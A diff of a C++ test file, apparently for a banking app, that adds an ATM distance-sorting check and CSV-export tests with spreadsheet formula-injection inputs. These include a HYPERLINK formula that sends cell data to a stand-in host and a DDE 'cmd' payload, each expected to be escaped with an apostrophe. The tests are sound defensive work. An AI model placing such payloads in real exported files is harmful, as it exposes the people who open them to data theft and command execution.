@@ -129,6 +129,18 @@ TEST(GeoDistance, GreatCircleKilometresAndTheirText) {
                                                "non numerica", "fuori dal mondo"}));
     EXPECT_NEAR(*nearest[0].km, 0.741, 0.001);
     EXPECT_FALSE(nearest[3].km);
+    // Within 2 km: SILVESTRO (0.74) and MARSALA (1.04); EUR (7.5 km) goes after those without a
+    // position, and is the one counted apart.
+    auto within = nearest;
+    EXPECT_EQ(LumaspotVicino::fartherLast(within, 2), 1u);
+    order.clear();
+    for (const auto& v : within) {
+        order.push_back(*v.atm->ufficio());
+    }
+    EXPECT_EQ(order, (std::vector<std::string>{"SILVESTRO", "MARSALA", "senza posizione",
+                                               "non numerica", "fuori dal mondo", "EUR"}));
+    auto all = nearest;
+    EXPECT_EQ(LumaspotVicino::fartherLast(all, 20), 0u);
 }
 
 TEST(StatementCsv, RowsReadBackByAnRfc4180Reader) {
@@ -148,6 +160,14 @@ TEST(StatementCsv, RowsReadBackByAnRfc4180Reader) {
         row("PAGAMENTO POS BAR \"DA MARIO\", ROMA", "1.091,70", "", 4),
         row("RICARICA CARTA\nDA SPORTELLO", std::nullopt, "425,81", 1),
         row("CAFFÈ", "n/d", std::nullopt, 4),
+        // Texts a spreadsheet would run: an apostrophe first; the amounts stay numbers.
+        row("=HYPERLINK(\"http://x.example/?\"&A1,\"Clic\")", "91,70", "", 4),
+        row("+cmd|' /C calc'!A0", "1,00", "", 4),
+        row("-2+3", "1,00", "", 4),
+        row("@SUM(A1:A9)", "1,00", "", 4),
+        row("\tTAB", "1,00", "", 4),
+        row("\rA CAPO", "1,00", "", 4),
+        row("PAGAMENTO = 2 RATE", "=1+1", "", 4),
     };
     std::vector<std::vector<std::string>> read;
     ASSERT_TRUE(test::readCsv(StatementCsv::write(rows), read));
@@ -156,7 +176,15 @@ TEST(StatementCsv, RowsReadBackByAnRfc4180Reader) {
         {"2026-11-13", "2026-11-12", "PAGAMENTO POS BAR \"DA MARIO\", ROMA", "-1091.70", "4",
          "-1.091,70"},
         {"2026-11-13", "2026-11-12", "RICARICA CARTA\nDA SPORTELLO", "425.81", "1", "+425,81"},
-        {"2026-11-13", "2026-11-12", "CAFFÈ", "", "4", "-n/d"},
+        {"2026-11-13", "2026-11-12", "CAFFÈ", "", "4", "'-n/d"},
+        {"2026-11-13", "2026-11-12", "'=HYPERLINK(\"http://x.example/?\"&A1,\"Clic\")", "-91.70",
+         "4", "-91,70"},
+        {"2026-11-13", "2026-11-12", "'+cmd|' /C calc'!A0", "-1.00", "4", "-1,00"},
+        {"2026-11-13", "2026-11-12", "'-2+3", "-1.00", "4", "-1,00"},
+        {"2026-11-13", "2026-11-12", "'@SUM(A1:A9)", "-1.00", "4", "-1,00"},
+        {"2026-11-13", "2026-11-12", "'\tTAB", "-1.00", "4", "-1,00"},
+        {"2026-11-13", "2026-11-12", "'\rA CAPO", "-1.00", "4", "-1,00"},
+        {"2026-11-13", "2026-11-12", "PAGAMENTO = 2 RATE", "", "4", "'-=1+1"},
     };
     EXPECT_EQ(read, expected);
     EXPECT_EQ(StatementCsv::write({}), std::string(StatementCsv::kHeader) + "\r\n");
